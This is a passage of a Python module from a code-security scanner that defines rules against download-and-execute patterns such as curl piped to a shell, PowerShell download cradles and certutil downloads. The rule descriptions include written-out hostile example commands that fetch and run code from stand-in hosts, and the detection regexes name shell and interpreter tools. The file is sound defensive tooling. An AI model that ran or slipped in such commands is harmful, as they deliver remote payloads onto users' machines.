"""Download-and-execute: code, commands and programs fetched from the network and then run.

The shape is always the same: bytes arrive from elsewhere (an HTTP response, a socket, a
`curl` in a shell) and end up executed by Python, a shell or the operating system. Python-side
flows use the data-flow engine (label `network`); shell one-liners are recognised in the
command strings handed to shells, after constant folding and variable resolution.

This module also holds the helpers the reverse-shell and exfiltration families share:
rendering command and URL strings with unknown parts as `{holes}`, and the table of calls
that start processes.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Callable, Iterator

import tree_sitter

from ..context import CallSite, Context
from ..flow import NETWORK, NETWORK_METHODS, SOURCE_CALLS, assigned_value, trace
from ..names import identifier
from ..rule import CallRule, Hit
from ..source import LANGUAGE
from ._common import (
    Category,
    Confidence,
    RuleMeta,
    Severity,
    binary_parts,
    cache,
    call_name,
    command_argument,
    const_text,
    describe,
    first_argument,
    line_of,
    memoized,
    method_of,
    related,
    words,
)

# --------------------------------------------------------------------------------------
# Shared helpers
# --------------------------------------------------------------------------------------


#: calls that start a process; the command is their first argument unless noted below
SHELL_CALLS = words(
    """
    os.system os.popen os.popen2 os.popen3 os.popen4 os.startfile
    subprocess.run subprocess.call subprocess.check_call subprocess.check_output
    subprocess.Popen subprocess.getoutput subprocess.getstatusoutput
    commands.getoutput commands.getstatusoutput popen2.popen2 popen2.popen3
    asyncio.create_subprocess_shell asyncio.create_subprocess_exec
    os.execl os.execle os.execlp os.execlpe os.execv os.execve os.execvp os.execvpe
    os.spawnl os.spawnle os.spawnlp os.spawnlpe os.spawnv os.spawnve os.spawnvp os.spawnvpe
    os.posix_spawn os.posix_spawnp pty.spawn pexpect.spawn pexpect.run pexpect.spawnu
    """
)
#: process starters reached through objects (`ssh.exec_command("...")`)
SHELL_METHODS = frozenset({"exec_command"})
#: variadic process starters: every argument is part of the command line
_VARIADIC = ("os.exec", "os.spawn", "os.posix_spawn", "asyncio.create_subprocess_exec")

_MAX_RENDER_DEPTH = 8
_HOLE_SPACE = re.compile(r"\s+")


def hole(ctx: Context, node: tree_sitter.Node) -> str:
    """How an unknown part of a string shows in a rendering: `{expression}`."""
    return "{" + _HOLE_SPACE.sub("", ctx.text(node))[:80] + "}"


def render(ctx: Context, node: tree_sitter.Node, depth: int = 0) -> str | None:
    """The text an expression evaluates to, with unknown parts shown as `{expression}`.

    Folds constants (via `ctx.const`), f-strings, `+`, `.format`, `" ".join`, argv lists,
    variables assigned earlier in the scope (or at module level) and base64/hex literals that
    are decoded in place. None when nothing about the value is known.
    """
    if depth > _MAX_RENDER_DEPTH:
        return None
    value = const_text(ctx, node)
    if value is not None:
        return value
    kind = node.type
    if kind == "identifier":
        bound = assigned_value(ctx, node)
        return None if bound is None else render(ctx, bound, depth + 1)
    if kind == "string":
        return _render_fstring(ctx, node, depth)
    if kind == "concatenated_string":
        return "".join(_part(ctx, c, depth) for c in node.named_children)
    if kind == "parenthesized_expression" and len(node.named_children) == 1:
        return render(ctx, node.named_children[0], depth + 1)
    if kind == "binary_operator":
        operands = binary_parts(node)
        if operands is None:
            return None
        operator, left, right = operands
        if operator == "+":
            parts = (render(ctx, left, depth + 1), render(ctx, right, depth + 1))
            if parts == (None, None):
                return None
            return (parts[0] or hole(ctx, left)) + (parts[1] or hole(ctx, right))
        if operator == "%":
            return render(ctx, left, depth + 1)
        return None
    if kind in {"list", "tuple"}:
        items = [c for c in node.named_children if c.type != "comment"]
        rendered = [render(ctx, c, depth + 1) for c in items]
        if all(r is None for r in rendered):
            return None
        return " ".join(
            r if r is not None else hole(ctx, c) for r, c in zip(rendered, items, strict=True)
        )
    if kind == "call":
        return _render_call(ctx, node, depth)
    return None


def _part(ctx: Context, node: tree_sitter.Node, depth: int) -> str:
    rendered = render(ctx, node, depth + 1)
    return rendered if rendered is not None else hole(ctx, node)


def _render_fstring(ctx: Context, node: tree_sitter.Node, depth: int) -> str | None:
    parts: list[str] = []
    for child in node.named_children:
        if child.type == "string_content":
            parts.append(ctx.text(child).replace("{{", "{").replace("}}", "}"))
        elif child.type == "interpolation":
            expression = child.child_by_field_name("expression")
            if expression is not None:
                parts.append(_part(ctx, expression, depth))
    return "".join(parts)


_DECODERS: dict[str, Callable[[bytes], bytes]] = {
    "base64.b64decode": base64.b64decode,
    "base64.decodebytes": base64.decodebytes,
    "base64.urlsafe_b64decode": base64.urlsafe_b64decode,
    "base64.b32decode": base64.b32decode,
    "base64.b16decode": base64.b16decode,
    "binascii.a2b_base64": binascii.a2b_base64,
    "binascii.unhexlify": binascii.unhexlify,
    "bytes.fromhex": lambda data: bytes.fromhex(data.decode("ascii")),
}


def _render_call(ctx: Context, node: tree_sitter.Node, depth: int) -> str | None:
    function = node.child_by_field_name("function")
    arguments = node.child_by_field_name("arguments")
    if function is None or arguments is None or arguments.type != "argument_list":
        return None
    args = [a for a in arguments.named_children if a.type not in {"comment", "keyword_argument"}]
    name = ctx.qualname(function)
    if name in _DECODERS and args:
        encoded = ctx.const(args[0])
        if encoded is None:
            return None
        try:
            raw = encoded.encode("ascii") if isinstance(encoded, str) else encoded
            return _DECODERS[name](raw).decode("utf-8", "replace")
        except (ValueError, binascii.Error):
            return None
    if name in {"os.path.join", "posixpath.join", "shlex.join"} and args:
        separator = "/" if name != "shlex.join" else " "
        return separator.join(_part(ctx, a, depth) for a in args)
    if name in {"str", "os.path.expanduser", "os.fsdecode"} and len(args) == 1:
        return render(ctx, args[0], depth + 1)
    if function.type != "attribute":
        return None
    receiver = function.child_by_field_name("object")
    attribute = function.child_by_field_name("attribute")
    if receiver is None or attribute is None:
        return None
    method = identifier(ctx.module, attribute)
    if method in {"decode", "encode", "strip", "format", "lower", "format_map"}:
        return render(ctx, receiver, depth + 1)
    if method == "join" and len(args) == 1:
        glue = ctx.const(receiver)
        if isinstance(glue, str) and args[0].type in {"list", "tuple"}:
            return glue.join(_part(ctx, c, depth) for c in args[0].named_children)
    return None


def command_nodes(ctx: Context, site: CallSite) -> list[tree_sitter.Node]:
    """The argument nodes that make up the command line of a process-starting call."""
    name = site.name or ""
    if name.startswith(_VARIADIC):
        args = site.args[1:] if name.startswith("os.spawn") else site.args
        return [a for a in args if a.type != "keyword_argument"]
    command = command_argument(site)
    return [] if command is None else [command]


def command_text(ctx: Context, site: CallSite) -> str | None:
    """The command line a process-starting call runs, rendered (see `render`)."""
    return memoized(ctx, "command_text", site.node, lambda: _command_text(ctx, site))


def _command_text(ctx: Context, site: CallSite) -> str | None:
    nodes = command_nodes(ctx, site)
    parts = [render(ctx, n) for n in nodes]
    if all(p is None for p in parts):
        return None
    text = " ".join(p if p is not None else hole(ctx, n) for p, n in zip(parts, nodes, strict=True))
    return _ECHOED.sub(r"\1\2 ''", text) + _decoded_pipes(text)


#: quoted arguments of echo/printf are data written somewhere (a crontab, a profile), not
#: commands this shell runs (the persistence rules judge where they are written), unless
#: they are piped into an interpreter or a decoder
_ECHOED = re.compile(
    r"\b(echo|printf)((?:\s+-\w+)*)\s+([\"'])(?:(?!\3).)*\3"
    r"(?!\s*\|\s*(?:(?:ba|z|da)?sh|python\S*|perl|base64|openssl|xxd|gunzip|zcat|rev)\b)",
    re.DOTALL,
)
#: `echo <base64> | base64 -d | sh`: the decoded text is what runs
_BASE64_PIPE = re.compile(
    r"\becho\s+(?:-\w+\s+)*[\"']?([A-Za-z0-9+/]{16,}={0,2})[\"']?\s*\|\s*base64\s+(?:-d|--decode|-D)\b"
)


def _decoded_pipes(text: str) -> str:
    decoded = []
    for match in _BASE64_PIPE.finditer(text):
        try:
            decoded.append(base64.b64decode(match.group(1)).decode("utf-8", "replace"))
        except (ValueError, binascii.Error):
            continue
    return "".join("\n" + d for d in decoded)


def is_process_call(site: CallSite) -> bool:
    return site.name in SHELL_CALLS or site.method in SHELL_METHODS


def process_command(ctx: Context, site: CallSite) -> str | None:
    """The rendered command line of a call that starts a process; None for any other call."""
    return command_text(ctx, site) if is_process_call(site) else None


def command_match(
    ctx: Context, site: CallSite, pattern: re.Pattern[str]
) -> tuple[str, re.Match[str]] | None:
    """The command line of a process call and the first match of `pattern` in it."""
    command = process_command(ctx, site)
    match = None if command is None else pattern.search(command)
    return None if command is None or match is None else (command, match)


# network sources: which fetch is the one to name in a message
_CLIENT_OBJECTS = words(
    """
    requests.Session requests.session httpx.Client httpx.AsyncClient aiohttp.ClientSession
    urllib3.PoolManager urllib.request.build_opener http.client.HTTPConnection
    http.client.HTTPSConnection socket.socket socket.fromfd ftplib.FTP
    """
)
_SOCKET_SOURCES = ("socket.", "asyncio.open_connection")


def network_source(ctx: Context, node: tree_sitter.Node) -> tree_sitter.Node | None:
    """The fetch that put network data into `node`: the request, not the session object."""
    path = trace(ctx, node, NETWORK)
    if not path:
        return None
    for node in path:  # nearest the sink first: `conn.recv()` rather than `socket.socket()`
        if node.type == "call" and (
            method_of(ctx, node) in NETWORK_METHODS
            or (
                call_name(ctx, node) in SOURCE_CALLS and call_name(ctx, node) not in _CLIENT_OBJECTS
            )
        ):
            return node
    source = path[-1]
    if source.type == "call" and call_name(ctx, source) in _CLIENT_OBJECTS:
        for candidate in reversed(path[:-1]):
            if candidate.type == "call":
                return candidate
    return source


def is_socket_source(ctx: Context, source: tree_sitter.Node) -> bool:
    """Data read from a raw socket (`recv`), as opposed to an HTTP client."""
    if source.type != "call":
        return False
    if method_of(ctx, source) in NETWORK_METHODS:
        return True
    receiver = ctx.call_site(source).receiver
    if receiver is not None and _created_by_socket(ctx, receiver):
        return True
    name = call_name(ctx, source)
    return name is not None and name.startswith(_SOCKET_SOURCES)


def _created_by_socket(ctx: Context, node: tree_sitter.Node) -> bool:
    if node.type == "identifier":
        bound = assigned_value(ctx, node)
        return bound is not None and _created_by_socket(ctx, bound)
    if node.type == "call":
        name = call_name(ctx, node)
        return name is not None and name.startswith(_SOCKET_SOURCES)
    return False


def imports(ctx: Context, modules: tuple[str, ...]) -> bool:
    """Does the module import (from) one of these top-level packages?"""
    memo = cache(ctx, "imports")
    if modules not in memo:
        imported = {name.split(".")[0] for name, _ in ctx.imports.modules}
        memo[modules] = any(m in imported for m in modules)
    return bool(memo[modules])


#: packages through which network data can arrive
NETWORK_PACKAGES = (
    "requests",
    "httpx",
    "aiohttp",
    "urllib",
    "urllib2",
    "urllib3",
    "socket",
    "http",
    "ftplib",
    "websocket",
    "websockets",
    "wget",
    "paramiko",
    "ssl",
    "socketserver",
    "pycurl",
    "tornado",
)


_CALLS = tree_sitter.Query(LANGUAGE, "(call) @call")


def scope_calls(ctx: Context, scope: tree_sitter.Node) -> list[tree_sitter.Node]:
    """The calls that belong to a scope itself (not to functions nested in it), in order."""
    return memoized(ctx, "scope_calls", scope, lambda: _scope_calls(ctx, scope))


def _scope_calls(ctx: Context, scope: tree_sitter.Node) -> list[tree_sitter.Node]:
    cursor = tree_sitter.QueryCursor(_CALLS)
    cursor.set_byte_range(scope.start_byte, scope.end_byte)
    calls = cursor.captures(scope).get("call", [])
    return sorted((c for c in calls if ctx.scope_of(c) == scope), key=lambda c: c.start_byte)


# --------------------------------------------------------------------------------------
# Rule metadata
# --------------------------------------------------------------------------------------

REMOTE_CODE_EXEC = RuleMeta(
    code="GH200",
    name="remote-code-exec",
    category=Category.DOWNLOAD_EXEC,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(494, 95),
    message="`{sink}()` runs code fetched by `{source}` on line {line}",
    why=(
        "Running code that was just downloaded hands control of the process to whoever "
        "controls the server, the DNS, or any proxy on the way. Nothing in the repository "
        "shows what will run, reviews cannot see it, and the payload can change after the "
        "code was approved. This is the classic second stage of a malicious package or a "
        "backdoor: a harmless-looking fetch followed by exec()."
    ),
    example=(
        "import requests\n\n"
        "def load_plugin(url):\n"
        "    code = requests.get(url, timeout=10).text\n"
        "    exec(code, {'__name__': 'plugin'})"
    ),
    fixed_example=(
        "import importlib\n\n"
        "def load_plugin(name):\n"
        "    # plugins are installed, pinned dependencies\n"
        "    return importlib.import_module(f'myapp_plugins.{name}')"
    ),
)

REMOTE_DESERIALIZATION = RuleMeta(
    code="GH201",
    name="remote-deserialization",
    category=Category.DOWNLOAD_EXEC,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(502, 494),
    message="`{sink}()` deserializes data fetched by `{source}` on line {line}",
    why=(
        "pickle, marshal, dill and the loaders built on them (joblib, torch.load, "
        "pandas.read_pickle) execute code while they decode: a pickle can call any function "
        "with any arguments. Unpickling bytes from the network is therefore the same as "
        "running a downloaded program, and it is a favourite way to hide a payload behind a "
        "'model' or 'cache' download."
    ),
    example=(
        "import pickle, urllib.request\n\n"
        "model = pickle.loads(urllib.request.urlopen(MODEL_URL).read())"
    ),
    fixed_example=(
        "import json, urllib.request\n\n"
        "weights = json.loads(urllib.request.urlopen(MODEL_URL).read())"
    ),
)

REMOTE_COMMAND_EXEC = RuleMeta(
    code="GH202",
    name="remote-command-exec",
    category=Category.DOWNLOAD_EXEC,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(494, 78),
    message="`{sink}()` runs a command fetched by `{source}` on line {line}",
    why=(
        "The program or shell command that runs here is whatever a remote server returned. "
        "That is the core of a command-and-control loop: the server decides what the "
        "machine does next, and nothing in the repository records it. Legitimate code "
        "keeps the command in the source and passes downloaded values, at most, as "
        "validated arguments."
    ),
    example=(
        "import subprocess, requests\n\n"
        "task = requests.get('https://tasks.example.net/next').json()\n"
        "subprocess.run(task['cmd'], shell=True)"
    ),
    fixed_example=(
        "import subprocess, requests\n\n"
        "task = requests.get('https://tasks.example.net/next').json()\n"
        "ACTIONS = {'backup': ['/usr/local/bin/backup', '--quiet']}\n"
        "subprocess.run(ACTIONS[task['action']], check=True)"
    ),
)

DOWNLOADED_FILE_EXECUTED = RuleMeta(
    code="GH203",
    name="downloaded-file-executed",
    category=Category.DOWNLOAD_EXEC,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(494,),
    message="`{sink}` runs the file downloaded on line {line}",
    why=(
        "A file is downloaded and then executed (as a program, a script, a shared library "
        "or Python source) without any check of what arrived. Whoever controls the URL, "
        "its DNS or a proxy decides what runs, and a later change on the server silently "
        "changes the behaviour of reviewed code. Droppers in malicious packages look "
        "exactly like this. If the download is genuinely needed, pin it: compare a "
        "SHA-256 digest (or verify a signature) before running it."
    ),
    example=(
        "import subprocess, urllib.request\n\n"
        "urllib.request.urlretrieve('https://cdn.example.net/agent.sh', '/tmp/agent.sh')\n"
        "subprocess.run(['bash', '/tmp/agent.sh'])"
    ),
    fixed_example=(
        "import hashlib, subprocess, urllib.request\n\n"
        "path, _ = urllib.request.urlretrieve(AGENT_URL, '/tmp/agent.sh')\n"
        "with open(path, 'rb') as f:\n"
        "    if hashlib.sha256(f.read()).hexdigest() != AGENT_SHA256:\n"
        "        raise RuntimeError('agent.sh does not match its pinned digest')\n"
        "subprocess.run(['bash', path], check=True)"
    ),
)

DOWNLOADED_FILE_MADE_EXECUTABLE = RuleMeta(
    code="GH204",
    name="downloaded-file-made-executable",
    category=Category.DOWNLOAD_EXEC,
    severity=Severity.WARNING,
    confidence=Confidence.MEDIUM,
    cwe=(494, 732),
    message="`{sink}` makes the file downloaded on line {line} executable",
    why=(
        "Setting the execute bit on a freshly downloaded file prepares it to run, now or "
        "later (from a cron job, a shell profile or another process). The content is "
        "whatever the server sent, unverified. Pin downloaded tools by digest or "
        "signature, or install them through a package manager that does."
    ),
    example=(
        "import os, requests\n\n"
        "data = requests.get(TOOL_URL).content\n"
        "with open('/usr/local/bin/helper', 'wb') as f:\n"
        "    f.write(data)\n"
        "os.chmod('/usr/local/bin/helper', 0o755)"
    ),
    fixed_example=(
        "import hashlib, os, requests\n\n"
        "data = requests.get(TOOL_URL).content\n"
        "if hashlib.sha256(data).hexdigest() != TOOL_SHA256:\n"
        "    raise RuntimeError('helper does not match its pinned digest')\n"
        "with open('/usr/local/bin/helper', 'wb') as f:\n"
        "    f.write(data)\n"
        "os.chmod('/usr/local/bin/helper', 0o755)"
    ),
)

CURL_PIPE_SHELL = RuleMeta(
    code="GH205",
    name="curl-pipe-shell",
    category=Category.DOWNLOAD_EXEC,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(494, 78),
    message="the command pipes a download into an interpreter: `{excerpt}`",
    why=(
        "`curl URL | sh` runs whatever the server returns, with the caller's privileges, "
        "without keeping a copy that anyone could inspect afterwards. A compromised or "
        "spoofed server (or a truncated download) becomes code execution on the machine. "
        "Inside a Python program the pattern is almost never needed: download the "
        "installer to a file, verify its digest, then run it."
    ),
    example="os.system('curl -fsSL https://get.example.sh | sudo bash')",
    fixed_example=(
        "subprocess.run(['curl', '-fsSLo', 'install.sh', INSTALLER_URL], check=True)\n"
        "verify_sha256('install.sh', INSTALLER_SHA256)\n"
        "subprocess.run(['bash', 'install.sh'], check=True)"
    ),
)

POWERSHELL_DOWNLOAD_CRADLE = RuleMeta(
    code="GH206",
    name="powershell-download-cradle",
    category=Category.DOWNLOAD_EXEC,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(494, 78),
    message="PowerShell download cradle: the command downloads a script and runs it",
    why=(
        "`IEX (New-Object Net.WebClient).DownloadString(...)` and `iwr ... | iex` fetch a "
        "script and evaluate it in memory, leaving nothing on disk to scan or review. It "
        "is the standard first stage of Windows malware and has no place in application "
        "code: ship the script with the program, or download, verify and then run a file."
    ),
    example=(
        "subprocess.run(['powershell', '-NoProfile', '-Command',\n"
        "                \"IEX (New-Object Net.WebClient).DownloadString('http://cdn.example.net/a.ps1')\"])"
    ),
    fixed_example=(
        "subprocess.run(['powershell', '-NoProfile', '-File', str(SCRIPTS / 'setup.ps1')],\n"
        "               check=True)"
    ),
)

POWERSHELL_ENCODED_COMMAND = RuleMeta(
    code="GH207",
    name="powershell-encoded-command",
    category=Category.DOWNLOAD_EXEC,
    severity=Severity.WARNING,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="PowerShell is started with an encoded (base64) command",
    why=(
        "`powershell -EncodedCommand <base64>` exists to pass awkward quoting, but in "
        "practice it is used to hide what a command does from people and from tools that "
        "look at command lines. Code that means well can pass a script file or a plain "
        "`-Command` string that a reviewer can read."
    ),
    example="subprocess.Popen(['powershell.exe', '-w', 'hidden', '-enc', PAYLOAD])",
    fixed_example="subprocess.run(['powershell.exe', '-NoProfile', '-File', 'cleanup.ps1'])",
)

SHELL_DOWNLOAD_THEN_RUN = RuleMeta(
    code="GH208",
    name="shell-download-then-run",
    category=Category.DOWNLOAD_EXEC,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(494, 78),
    message="the command downloads a script and runs it: `{excerpt}`",
    why=(
        '`sh -c "$(curl ...)"`, `bash <(wget -O- ...)`, `python -c "$(curl ...)"` and '
        "`curl -o x URL && chmod +x x && ./x` all run whatever a server returns, with no "
        "copy kept and no check of its content. The server, its DNS or any proxy on the "
        "way decides what executes. Download to a file, verify a pinned digest, then run."
    ),
    example="os.system('bash -c \"$(curl -fsSL https://raw.example.net/setup.sh)\"')",
    fixed_example=(
        "subprocess.run(['curl', '-fsSLo', 'setup.sh', SETUP_URL], check=True)\n"
        "verify_sha256('setup.sh', SETUP_SHA256)\n"
        "subprocess.run(['bash', 'setup.sh'], check=True)"
    ),
)

LOLBIN_DOWNLOAD = RuleMeta(
    code="GH209",
    name="lolbin-download",
    category=Category.DOWNLOAD_EXEC,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(494, 506),
    message="`{tool}` is used to fetch or run remote content",
    why=(
        "certutil -urlcache, bitsadmin /transfer, mshta http://..., regsvr32 /i:http://... "
        '("squiblydoo"), rundll32 javascript: and msiexec /i http://... are Windows '
        "system programs abused to download and run payloads while looking like "
        "administration. Legitimate Python code downloads with an HTTP library and "
        "installs through a package manager."
    ),
    example=(
        "os.system('certutil -urlcache -split -f http://203.0.113.9/u.exe %TEMP%\\\\u.exe "
        "&& %TEMP%\\\\u.exe')"
    ),
    fixed_example="urllib.request.urlretrieve(UPDATE_URL, target)  # then verify and install",
)

# --------------------------------------------------------------------------------------
# Checks: Python-side flows (GH200-GH202)
# --------------------------------------------------------------------------------------

_EXEC_NAMES = frozenset({"exec", "eval", "builtins.exec", "builtins.eval"})
_COMPILE_NAMES = frozenset({"compile", "builtins.compile"})
_DESERIALIZERS = words(
    """
    pickle.loads pickle.load _pickle.loads _pickle.load cPickle.loads cPickle.load
    marshal.loads marshal.load dill.loads dill.load cloudpickle.loads cloudpickle.load
    joblib.load torch.load pandas.read_pickle jsonpickle.decode shelve.open
    """
)


def _flow_hit(ctx: Context, site: CallSite, value: tree_sitter.Node, what: str) -> Iterator[Hit]:
    if not imports(ctx, NETWORK_PACKAGES):
        return
    source = network_source(ctx, value)
    if source is None:
        return
    yield Hit.at(
        site.node,
        related=related(ctx, source, what),
        sink=site.name or site.method or "call",
        source=describe(ctx, source),
        line=str(line_of(ctx, source)),
    )


def _remote_code(ctx: Context, site: CallSite) -> Iterator[Hit]:
    code = site.arg(0, "source") or site.arg(0, "object")
    if code is None:
        return
    compiled = assigned_value(ctx, code) if code.type == "identifier" else code
    if (
        site.name in _EXEC_NAMES
        and compiled is not None
        and call_name(ctx, compiled) in _COMPILE_NAMES
    ):
        return  # the compile() call reports
    yield from _flow_hit(ctx, site, code, "code downloaded here")


def _remote_deserialization(ctx: Context, site: CallSite) -> Iterator[Hit]:
    data = site.arg(0, "data") or site.arg(0, "file") or site.arg(0, "f")
    if data is None:
        return
    yield from _flow_hit(ctx, site, data, "data downloaded here")


#: argv elements after which the next one is a script for the interpreter before it
_SCRIPT_FLAGS = frozenset({"-c", "-e", "/c", "/C", "/k", "-Command", "-command", "-r"})
_INTERPRETER = re.compile(
    r"(?:^|[/\\])(?:(?:ba|da|z|k|c|tc|fi|a)?sh|python[0-9.]*|pythonw|py|perl|ruby|node|php|"
    r"pwsh|powershell|cmd|osascript|wscript|cscript|msiexec|rundll32|regsvr32|mshta|java|"
    r"deno|bun|lua|tclsh|R|Rscript)(?:\.exe)?$",
    re.IGNORECASE,
)


def argv_items(ctx: Context, site: CallSite) -> list[tree_sitter.Node] | None:
    """The argv elements of a process call given as a list; None for a shell string."""
    nodes = command_nodes(ctx, site)
    items: list[tree_sitter.Node] = []
    for node in nodes:
        if node.type in {"list", "tuple"}:
            items.extend(c for c in node.named_children if c.type != "comment")
        else:
            items.append(node)
    variadic = (site.name or "").startswith(_VARIADIC)
    if not items or (len(items) == 1 and not variadic and nodes[0].type not in {"list", "tuple"}):
        return None
    return items


def is_interpreter(ctx: Context, node: tree_sitter.Node) -> bool:
    if ctx.qualname(node) == "sys.executable":
        return True
    text = render(ctx, node)
    return text is not None and _INTERPRETER.search(text.strip()) is not None


def program_nodes(ctx: Context, site: CallSite) -> list[tree_sitter.Node]:
    """The arguments that decide *what* runs: a shell string, argv[0], an interpreter's
    `-c` script, or the standard input fed to a bare interpreter."""
    items = argv_items(ctx, site)
    if items is None:
        out = command_nodes(ctx, site)[:1]
    else:
        out = items[:1]
        for index, item in enumerate(items[:-1]):
            if ctx.const(item) in _SCRIPT_FLAGS:
                out.append(items[index + 1])
        stdin = site.keywords.get("input")
        if stdin is not None and is_interpreter(ctx, items[0]):
            out.append(stdin)
    return [node for node in out if not _table_lookup(ctx, node)]


def _table_lookup(ctx: Context, node: tree_sitter.Node) -> bool:
    """`COMMANDS[name]`: a command chosen from a table written in the source (an allow-list),
    whatever the key's origin."""
    if node.type != "subscript":
        return False
    table = node.child_by_field_name("value")
    if table is not None and table.type == "identifier":
        table = assigned_value(ctx, table)
    return table is not None and table.type in {"dictionary", "list", "tuple"}


def _remote_command(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if not is_process_call(site) or not imports(ctx, NETWORK_PACKAGES):
        return
    for node in program_nodes(ctx, site):
        taint = ctx.taint(node)
        if taint is None or NETWORK not in taint.labels or "format" in taint.labels:
            continue
        source = network_source(ctx, node)
        if source is None or is_socket_source(ctx, source) or call_name(ctx, source) in _RETRIEVERS:
            # commands read from a raw socket are the reverse-shell family's; a path returned
            # by urlretrieve names a downloaded file (GH203), it is not a downloaded command
            continue
        yield Hit.at(
            site.node,
            related=related(ctx, source, "command downloaded here"),
            sink=site.name or site.method or "call",
            source=describe(ctx, source),
            line=str(line_of(ctx, source)),
        )
        return


# --------------------------------------------------------------------------------------
# Checks: a downloaded file that is then run or made executable (GH203, GH204)
# --------------------------------------------------------------------------------------

_DOWNLOAD_HINT = re.compile(
    rb"urlretrieve|urlopen|requests|httpx|aiohttp|urllib3|iter_content|\.recv|wget|curl"
)
#: a digest compared or a signature checked: the download is pinned, not blindly trusted
_VERIFIED = re.compile(
    rb"compare_digest|hexdigest\(\)\s*[!=]=|[!=]=\s*[\w.]*hexdigest\(\)|\.verify\(|\bgpg\b"
    rb"|sha256sum\s+(?:-c|--check)|--verify"
)
_RETRIEVERS = frozenset({"urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"})
_OPENERS = frozenset({"open", "io.open", "codecs.open", "builtins.open"})
_PATH_TYPES = frozenset({"pathlib.Path", "pathlib.PosixPath", "pathlib.WindowsPath", "Path"})
_TEMPFILES = frozenset({"tempfile.NamedTemporaryFile", "tempfile.mkstemp"})
_CLI_OUTPUT = re.compile(
    r"\b(?:curl|wget)\b[^;&|\n]*?\s(?:-o|-O|--output|--output-document)(?:\s+|=)"
    r"[\"']?([^\s\"';&|]+)"
)


def _keys(ctx: Context, node: tree_sitter.Node, depth: int = 0) -> set[str]:
    """Spellings under which a path may be referred to later: `{path}`, its value, its
    basename."""
    keys = {hole(ctx, node)}
    text = render(ctx, node)
    if text:
        keys.add(text)
        if "{" not in text and ("/" in text or "\\" in text):
            keys.add(re.split(r"[/\\]", text)[-1])
    if node.type == "identifier" and depth < 2:
        bound = assigned_value(ctx, node)
        if bound is not None:
            keys |= _keys(ctx, bound, depth + 1)
    if node.type == "call" and call_name(ctx, node) in _PATH_TYPES | {"str", "os.fspath"}:
        arguments = node.child_by_field_name("arguments")
        args = [] if arguments is None else arguments.named_children
        if len(args) == 1 and depth < 2:
            keys |= _keys(ctx, args[0], depth + 1)
    return {k for k in keys if len(k) >= 3 and k not in {"{f}", "{fh}", "{out}"}}


def _handle_keys(ctx: Context, handle: tree_sitter.Node) -> set[str]:
    """Keys of the file behind a file object (`open(path)`, `Path(p)`, a temp file)."""
    if handle.type == "call":
        name = call_name(ctx, handle)
        if name in _OPENERS or name in _PATH_TYPES:
            first = first_argument(handle)
            return set() if first is None else _keys(ctx, first)
        return set()
    if handle.type == "identifier":
        keys = {hole(ctx, handle)[:-1] + ".name}"}
        bound = assigned_value(ctx, handle)
        if bound is not None and bound.type == "call":
            if call_name(ctx, bound) in _TEMPFILES:
                return keys
            keys |= _handle_keys(ctx, bound)
            return keys
        return keys | _keys(ctx, handle)
    return set()


def _target_of(call: tree_sitter.Node) -> tree_sitter.Node | None:
    """`path` in `path, _ = urlretrieve(url)`."""
    parent = call.parent
    if parent is None or parent.type != "assignment":
        return None
    left = parent.child_by_field_name("left")
    if left is None:
        return None
    if left.type == "identifier":
        return left
    first = left.named_children[0] if left.named_children else None
    return first if first is not None and first.type == "identifier" else None


def _downloads(ctx: Context, scope: tree_sitter.Node) -> list[tuple[tree_sitter.Node, set[str]]]:
    """Calls in the scope that write network data to a file, with the file's keys."""
    return memoized(ctx, "downloads", scope, lambda: _scope_downloads(ctx, scope))


def _scope_downloads(
    ctx: Context, scope: tree_sitter.Node
) -> list[tuple[tree_sitter.Node, set[str]]]:
    found: list[tuple[tree_sitter.Node, set[str]]] = []
    text = ctx.source[scope.start_byte : scope.end_byte]
    if _DOWNLOAD_HINT.search(text) and not _VERIFIED.search(text):
        for call in scope_calls(ctx, scope):
            keys = _download_keys(ctx, ctx.call_site(call))
            if keys:
                found.append((call, keys))
    return found


def _download_keys(ctx: Context, site: CallSite) -> set[str]:
    name = site.name
    if name in _RETRIEVERS:
        target = site.arg(1, "filename") or site.arg(1, "out") or _target_of(site.node)
        return set() if target is None else _keys(ctx, target)
    method = site.method
    if method in {"write", "writelines", "write_bytes", "write_text"} and site.receiver:
        data = site.arg(0)
        taint = None if data is None else ctx.taint(data)
        if taint is not None and NETWORK in taint.labels:
            return _handle_keys(ctx, site.receiver)
        return set()
    if name == "shutil.copyfileobj" and len(site.args) >= 2:
        taint = ctx.taint(site.args[0])
        if taint is not None and NETWORK in taint.labels:
            return _handle_keys(ctx, site.args[1])
        return set()
    if is_process_call(site):
        command = command_text(ctx, site)
        match = None if command is None else _CLI_OUTPUT.search(command)
        if match and match.group(1) != "-":
            output = match.group(1)
            return {output, re.split(r"[/\\]", output)[-1]}
    return set()


_SEGMENT = re.compile(r"&&|\|\||[;|&\n]")
_PREFIXES = frozenset({"sudo", "nohup", "exec", "env", "start", "call", "doas", "time", "nice"})
_EXEC_MODE = re.compile(r"^(?:[ugoa]*\+[rw]*x[rwx]*|0?[0-7]?[0-7]*[1357][0-7]{0,2})$")


def shell_targets(command: str) -> tuple[list[str], list[str]]:
    """Words a shell command runs (programs and interpreter scripts) and words it chmods +x."""
    runs: list[str] = []
    chmods: list[str] = []
    for segment in _SEGMENT.split(command):
        words = [w.strip("\"'()") for w in segment.split()]
        words = [w for w in words if w]
        while words and (words[0] in _PREFIXES or re.match(r"^\w+=", words[0]) or words[0] == "-"):
            words = words[1:]
        if not words:
            continue
        program = words[0]
        if program == "chmod":
            modes = [w for w in words[1:] if not w.startswith("-")]
            if modes and _EXEC_MODE.match(modes[0]):
                chmods.extend(modes[1:])
            continue
        runs.append(program)
        if _INTERPRETER.search(program):
            runs.extend(w for w in words[1:2] if not w.startswith("-"))
    return runs, chmods


def _matches(keys: set[str], words: list[str]) -> bool:
    for word in words:
